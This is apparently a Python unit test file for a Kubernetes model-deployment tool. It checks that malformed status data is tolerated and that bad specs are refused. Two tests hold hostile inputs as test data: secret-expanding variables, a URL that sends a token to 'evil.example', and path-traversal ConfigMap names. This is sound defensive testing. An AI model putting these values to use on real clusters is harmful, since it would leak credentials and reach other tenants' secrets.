"""Nonsense in a status stops nothing, and nonsense in a spec is refused with a sentence."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lastgood.api.facts.deployment_status import DeploymentStatus
from lastgood.api.fields import compact
from lastgood.api.specs.deployment import ModelDeployment
from lastgood.api.specs.rollback import ModelRollback, RollbackStatus
from lastgood.api.specs.snapshot import (
    ModelSnapshot,
    SnapshotStatus,
)
from lastgood.api.workload.kinds.deployment import Deployment
from lastgood.errors import InvalidSpecError
from tests.unit.api.test_fields import json
from tests.unit.api.test_kinds import DEPLOYMENT, META, RECORD_STATUS, ROLLBACK, SNAPSHOT, SNAPSHOT_STATUS, STATUS


def keys(of: type) -> list[str]:
    """Return the names of a status in JSON."""
    whole: dict[type, dict[str, Any]] = {
        DeploymentStatus: STATUS.as_body(),
        RollbackStatus: RECORD_STATUS.as_body(),
        SnapshotStatus: SNAPSHOT_STATUS.as_body(),
    }
    return sorted(whole[of])


nonsense = st.dictionaries(
    st.sampled_from(sorted({*keys(DeploymentStatus), *keys(RollbackStatus), *keys(SnapshotStatus)})),
    json
    | st.lists(st.dictionaries(st.sampled_from(["name", "at", "since", "type", "status", "digest"]), json), max_size=3)
    | st.dictionaries(
        st.sampled_from(["name", "since", "spec", "snapshot", "scope", "lastTime", "durationSeconds", "findings"]), json
    ),
    max_size=6,
)


@given(nonsense)
def test_nonsense_in_any_status_is_read(status: dict[str, Any]) -> None:
    deployment = ModelDeployment.from_body({**DEPLOYMENT, "status": status})
    DeploymentStatus.from_body({"status": compact(deployment.status.as_body())})
    ModelRollback.from_body({**ROLLBACK, "status": status}).status.as_body()
    ModelSnapshot.from_body({**SNAPSHOT, "status": status}).status.as_body()
    Deployment.read({"metadata": META, "spec": {}, "status": status})


@given(json)
def test_status_that_is_no_object_is_read(status: Any) -> None:
    assert ModelDeployment.from_body({**DEPLOYMENT, "status": status}).model == "digits"
    assert ModelRollback.from_body({**ROLLBACK, "status": status}).spec.reason == "x"
    assert ModelSnapshot.from_body({**SNAPSHOT, "status": status}).version == "2"


@given(st.dictionaries(st.sampled_from(["metadata", "spec", "status"]), json))
def test_workload_of_any_shape_is_read(body: dict[str, Any]) -> None:
    Deployment.read(body)


@pytest.mark.parametrize("name", [7, "", None, [], {}])
def test_lock_without_a_name_is_no_lock(name: object) -> None:
    status = {"activeRollback": {"name": name, "spec": {}}, "held": {"snapshot": name}}
    read = DeploymentStatus.from_body({"status": status})
    assert (read.active, read.held) == (None, None)


@given(st.one_of(json, st.dictionaries(st.text(max_size=12), json)))
def test_spec_of_any_shape_is_read_or_refused(spec: Any) -> None:
    for kind in (ModelDeployment, ModelSnapshot):
        with pytest.raises(InvalidSpecError):
            kind.from_body({"metadata": META, "spec": spec})


@pytest.mark.parametrize(
    ("field", "value"),
    [
        pytest.param("version", "$(LASTGOOD_CREDENTIALS_TOKEN)", id="a secret variable as a version"),
        pytest.param("source", {"store": {"path": "digits/$(VARIANT)"}}, id="a path that a pod reads otherwise"),
        pytest.param("source", {"store": {"path": "digits/$$(X)"}}, id="an escaped one"),
        pytest.param("source", {"http": {"url": "https://evil.example/x?k=$(TOKEN)"}}, id="a secret sent elsewhere"),
    ],
)
def test_variable_that_the_kubelet_would_expand_after_verification_is_refused(field: str, value: object) -> None:
    spec = {"model": "digits", "version": "1", "source": {"store": {"path": "a"}}, "digest": f"sha256:{'a' * 64}"}
    with pytest.raises(InvalidSpecError, match=r"must not hold \$\("):
        ModelSnapshot.from_body({"metadata": {"namespace": "ml", "name": "x"}, "spec": {**spec, field: value}})


@pytest.mark.parametrize("name", ["../../victim/secrets/models", "..", "pods?limit=0", "a%2fb", ""])
def test_bundle_whose_config_map_is_a_path_into_the_api_is_refused(name: str) -> None:
    spec = {"model": "digits", "version": "1", "source": {"store": {"path": "a"}}, "digest": f"sha256:{'a' * 64}"}
    bundle = {"configMapKeyRef": {"name": name, "key": "model.sig"}}
    with pytest.raises(InvalidSpecError, match=r"configMapKeyRef\.name"):
        ModelSnapshot.from_body(
            {"metadata": {"namespace": "ml", "name": "x"}, "spec": {**spec, "signatures": [bundle]}}
        )
